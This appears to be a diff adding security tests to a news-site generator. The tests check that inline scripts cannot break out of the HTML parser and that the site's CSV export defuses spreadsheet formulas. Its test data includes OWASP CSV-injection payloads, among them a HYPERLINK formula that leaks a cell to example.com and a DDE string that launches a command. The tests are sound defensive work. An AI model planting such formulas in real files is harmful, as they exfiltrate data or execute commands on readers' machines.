@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from html.parser import HTMLParser
 from pathlib import Path
@@ -226,4 +228,62 @@ def test_content_cannot_name_a_path_outside_its_folder(real_content: Path) -> No
     assert found == [
         "content/companies/..evil.yaml: a hidden file (its name starts with a dot) is not read — rename it to 'evil.yaml'",
         "content/companies/Evil Corp.yaml: 'Evil Corp' is not a valid id: a file name is lower-case letters, digits and single hyphens — rename the file to 'evil-corp.yaml'",
+    ]
+
+
+_INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)([^>]*)>(.*?)</script", re.S | re.I)
+
+
+def test_no_inline_script_holds_text_the_html_parser_acts_on(planted_site: Path) -> None:
+    """Every inline <script> of every planted page: JSON data has '<', '>', '&' and U+2028/9 only as
+    \\u escapes; no other inline script holds '<!--' or '<script' (the theme's own code has neither)."""
+    checked = 0
+    for page in planted_site.rglob("*.html"):
+        for attributes, body in _INLINE_SCRIPT.findall(page.read_text(encoding="utf-8")):
+            checked += 1
+            if "json" in attributes:
+                assert not any(char in body for char in "<>&\u2028\u2029"), (page, body[:200])
+            else:
+                assert "<!--" not in body and "<script" not in body.lower(), (page, body[:200])
+    assert checked > 100
+
+
+# --- downloads: spreadsheet formulas -----------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.com/?leak=" & A1, "click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1, 2)", "\t=1+1"]
+"""OWASP's CSV-injection examples, one for each character a spreadsheet starts a formula with
+(a carriage return is refused at load, as every control character is)."""
+
+
+def test_figures_csv_holds_no_live_formula_and_round_trips(real_content: Path) -> None:
+    from newsbrief.checks import load_site
+    from newsbrief.export import FORMULA_STARTS, figures_csv
+
+    planted = {}
+    for index, path in enumerate(sorted((real_content / "figures").glob("*.yaml"))):
+        record = yaml.safe_load(path.read_text(encoding="utf-8"))
+        record["metric"] = FORMULAS[index % len(FORMULAS)]
+        record["scope"] = FORMULAS[(index + 1) % len(FORMULAS)] + ', "quoted", and\na second line'
+        planted[path.stem] = record
+        path.write_text(yaml.safe_dump(record, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    site = load_site(real_content, real_content.parent)
+    assert site.problems == []
+
+    rows = list(csv.DictReader(io.StringIO(figures_csv(site), newline="")))
+    assert {row["id"] for row in rows} == set(planted)
+    for row in rows:
+        for column, cell in row.items():
+            assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-?\d+(\.\d+)?", cell), (row["id"], column, cell)
+        # A reader gets the text back by dropping the one quote put before it.
+        assert row["metric"] == "'" + planted[row["id"]]["metric"]
+        assert row["scope"] == "'" + planted[row["id"]]["scope"]
+    assert any(row["value"].startswith("-") for row in rows), "negative numbers stay numbers"
+
+
+def test_a_carriage_return_is_refused_at_load(real_content: Path) -> None:
+    path = real_content / "figures" / "xiaomi-target-2025.yaml"
+    path.write_text(path.read_text(encoding="utf-8").replace("metric: ", 'metric: "\\r=1+1" # ', 1), encoding="utf-8")
+    assert problems(real_content) == [
+        "content/figures/xiaomi-target-2025.yaml:2: metric: the text contains the control character U+000D CONTROL CHARACTER "
+        '(written as a YAML escape such as "\\x01") — delete it: readers cannot see it and it breaks the feed'
     ]
